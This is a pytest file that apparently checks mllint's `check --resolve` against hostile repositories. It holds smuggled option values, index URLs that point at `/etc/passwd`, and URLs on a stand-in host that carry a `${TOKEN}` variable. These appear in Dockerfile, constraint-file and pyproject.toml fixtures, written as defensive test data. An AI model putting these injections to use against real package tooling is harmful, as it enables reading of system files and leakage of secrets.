"""`check --resolve` on a repository that means harm: what uv is told, and what is asked of whom."""

import json

import pytest
from click.testing import CliRunner

from mllint.cli import commands

START = "FROM python:3.10-slim\n"


@pytest.fixture
def told(instead_of_uv):
    """All that uv is told: its words, and the files that they name."""
    return instead_of_uv('(echo "$@"; cat *.txt *.toml) >> $LOG 2>/dev/null\nexit 1')


def check(*arguments):
    words = ["check", "--resolve", "--verbose", *arguments]
    return CliRunner().invoke(commands, words, prog_name="mllint", catch_exceptions=False)


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        # Where a blank ends the address, the rest is an option of its own.
        ("pip install --index-url 'https://x.example/s --find-links /etc' six", "no address"),
        ("pip install --index-url $'https://x.example/s\\n--find-links=/etc' six", "no address"),
        ("pip install --extra-index-url 'https://x.example/\\' six", "no address"),
        # The shell leaves the variable alone, uv would put in that of this machine.
        ("pip install --index-url 'https://x.example/${TOKEN}/s' six", "a variable"),
        ("pip install --find-links 'https://x.example/${TOKEN}' six", "a variable"),
        ("pip install --index-url file:///etc six", "a place of the image"),
        ("pip install --find-links file:///etc six", "a place of the image"),
        ("pip install --index-url /etc six", "a place of the image"),
        ("pip install --index-url -r/etc/passwd six", "a place of the image"),
        ("pip install --extra-index-url git+https://x.example/s six", "a place of the image"),
        ("uv pip install --system --torch-backend --cache-dir=/etc six", None),
        ("uv pip install --system --torch-backend='cpu --cache-dir' six", "is none"),
        ("pip install 'six @ file:///etc/passwd'", None),
        ("pip install 'six @ git+https://x.example/s.git'", None),
        ("pip install 'six @ https://x.example/s-1.0.tar.gz'", None),
        ("pip install -e /etc", None),
        ("pip install 'six===${TOKEN}'", None),
    ],
)
def test_what_no_index_is_asked_with(command, reason, folder, told):
    (folder / "Dockerfile").write_text(f"{START}RUN {command}\n")
    result = check()
    assert "six" not in told()
    assert "/etc" not in told()
    assert reason is None or reason in result.stdout + result.stderr, result.stdout


@pytest.mark.parametrize(
    "line",
    [
        "six @ file:///etc/passwd",
        "six @ git+https://x.example/s.git",
        "six @ https://x.example/six-1.0-py3-none-any.whl",
        'six; python_version > "${TOKEN}"',
        "--index-url https://x.example/${TOKEN}",
        "-r /etc/passwd",
        "-e /etc",
    ],
)
@pytest.mark.parametrize("option", ["-c", "--override"])
def test_lines_of_a_constraint_file(line, option, folder, told):
    (folder / "c.txt").write_text(f"{line}\n")
    tool = "uv pip install --system" if option == "--override" else "pip install"
    (folder / "Dockerfile").write_text(f"{START}COPY c.txt .\nRUN {tool} {option} c.txt idna\n")
    check()
    for word in ("x.example", "/etc", "TOKEN"):
        assert word not in told()


def test_a_requirement_file_names_variables(folder, told):
    lines = ["--index-url https://x.example/${TOKEN}/s", "--find-links https://x.example/${TOKEN}"]
    (folder / "r.txt").write_text("\n".join([*lines, "six"]))
    (folder / "Dockerfile").write_text(f"{START}COPY r.txt .\nRUN pip install -r r.txt\n")
    check()
    assert told() == ""


def test_a_project_that_writes_tables(folder, told):
    """The address ends the string, and the next line is a setting of uv."""
    (folder / "pyproject.toml").write_text(
        '[project]\nname = "a"\nversion = "1"\ndependencies = ["six", "torch"]\n'
        '[tool.uv.sources]\ntorch = { index = "p" }\n'
        '[[tool.uv.index]]\nname = "p"\nexplicit = true\n'
        'url = "https://x.example/s\\"\\nfind-links = [\\"/etc\\"]\\n#"\n'
    )
    command = "COPY pyproject.toml .\nRUN uv pip install --system -r pyproject.toml"
    (folder / "Dockerfile").write_text(f"{START}{command}\n")
    check()
    assert told() == ""


def resolve(folder, indexes, dockerfile):
    """What was not resolved, and all that was answered."""
    (folder / "Dockerfile").write_text(dockerfile)
    words = ["check", "--resolve", "--format", "json", *indexes.options]
    result = CliRunner().invoke(commands, words, prog_name="mllint", catch_exceptions=False)
    said = json.loads(result.stdout)
    reasons = [each["reason"] for each in said["unchecked"]]
    return [each for each in reasons if each.startswith("not resolved: ")], said["findings"]


def test_the_settings_of_a_folder_above_the_temporary_one_do_not_count(
    folder, indexes, monkeypatch, tmp_path
):
    """On a shared machine anybody may write `/tmp/uv.toml`."""
    (tmp_path / "shared" / "mine").mkdir(parents=True)
    (tmp_path / "shared" / "uv.toml").write_text('constraint-dependencies = ["torch==1.0"]\n')
    monkeypatch.setenv("TMPDIR", str(tmp_path / "shared" / "mine"))
    dockerfile = "FROM python:3.10-slim\nRUN pip install torch==2.1.0\n"
    reasons, findings = resolve(folder, indexes, dockerfile)
    assert reasons == []
    rules = {each["rule"] for each in findings}
    assert not rules & {"unresolvable-requirements", "version-not-on-index"}
